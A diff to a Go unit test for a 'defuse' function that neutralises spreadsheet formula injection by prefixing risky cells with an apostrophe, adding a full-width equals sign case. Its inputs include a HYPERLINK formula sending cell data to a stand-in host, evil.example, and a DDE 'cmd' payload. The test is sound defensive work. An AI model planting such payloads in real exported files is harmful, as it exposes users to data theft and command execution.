@@ -13,9 +13,9 @@ import (
 // served as text (a leading apostrophe); everything else as it is.
 func TestDefuse(t *testing.T) {
 	got := defuse([]string{`=HYPERLINK("http://evil.example/?"&A1,"Klicka")`, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1", "\t=1", "\r=1",
-		"Jobbspår", "", "0127", "33.3", "a=b"})
+		"Jobbspår", "", "0127", "33.3", "a=b", "＝1+1"})
 	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"Klicka")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-1+1", "'\t=1", "'\r=1",
-		"Jobbspår", "", "0127", "33.3", "a=b"}
+		"Jobbspår", "", "0127", "33.3", "a=b", "'＝1+1"}
 	if !slices.Equal(got, want) {
 		t.Errorf("defuse:\n got %q\nwant %q", got, want)
 	}
